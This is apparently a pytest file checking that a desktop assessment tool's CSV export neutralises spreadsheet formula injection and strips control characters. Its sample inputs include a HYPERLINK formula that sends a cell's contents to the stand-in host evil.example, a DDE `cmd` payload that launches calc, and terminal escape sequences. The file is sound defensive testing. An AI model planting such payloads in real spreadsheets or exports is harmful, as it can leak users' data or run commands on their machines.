"""`export-csv` writes cells no spreadsheet runs as formulas, without control characters."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from acsg_desktop.core.assessment.csv_export import export_csv, results_csv, spreadsheet_cell
from acsg_desktop.core.assessment.scoring import score
from acsg_desktop.core.records.assessment import Answer, AnswerKind
from acsg_desktop.core.workspace import Workspace

INDICATOR, NOTE, EVIDENCE, ANSWERED_BY = 1, 8, 9, 10
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Level 3", "1 234,5", "a = b", "e-mail@x", "", "'quoted"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_control_characters_are_dropped_before_the_formula_check() -> None:
    assert spreadsheet_cell("\x1b[2J\x00=1+1") == "[2J=1+1"
    assert spreadsheet_cell("\x00=1+1") == "'=1+1"
    assert spreadsheet_cell("Line one\nline two\x0b\u202e") == "Line one\nline two"


def written_rows(tmp_path: Path) -> tuple[list[str], list[list[str]]]:
    """An assessment whose answers hold formulas and control characters, exported and read
    back: the ids of the answered indicators (in ``FORMULAS`` order), and every row.

    The answers are given to ``results_csv`` as they could come from an older database, which
    did not clean them at save time.
    """
    with Workspace.open(tmp_path / "data") as workspace:
        service = workspace.assessments
        summary = service.create("2026 baseline", 2026, actor="Amina")
        framework = service.framework_of(summary)
        indicators = framework.indicators[: len(FORMULAS)]
        answers = {
            indicator.id: Answer(
                indicator.id,
                AnswerKind.LEVEL,
                level=2,
                note=formula,
                evidence="\x1b]0;pwned\x07" + formula,
                answered_by=formula.strip(),
            )
            for indicator, formula in zip(indicators, FORMULAS, strict=True)
        }
        text = results_csv(framework, summary, answers, score(framework, answers, {}))
    path = tmp_path / "results.csv"
    export_csv(path, text)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [i.id for i in indicators], list(csv.reader(stream))


def test_the_written_file_holds_no_formula_and_no_control_character(tmp_path: Path) -> None:
    ids, rows = written_rows(tmp_path)
    by_id = {row[INDICATOR]: row for row in rows}
    answered = [by_id[indicator_id] for indicator_id in ids]
    assert [row[NOTE] for row in answered] == ["'" + formula for formula in FORMULAS]
    assert [row[EVIDENCE] for row in answered] == ["]0;pwned" + formula for formula in FORMULAS]
    assert [row[ANSWERED_BY] for row in answered] == ["'" + f.strip() for f in FORMULAS]
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in set("=+-@\t\r"), cell
            assert not any(ord(c) < 32 and c not in "\t\r\n" for c in cell), cell
            assert "\x07" not in cell and "\x1b" not in cell
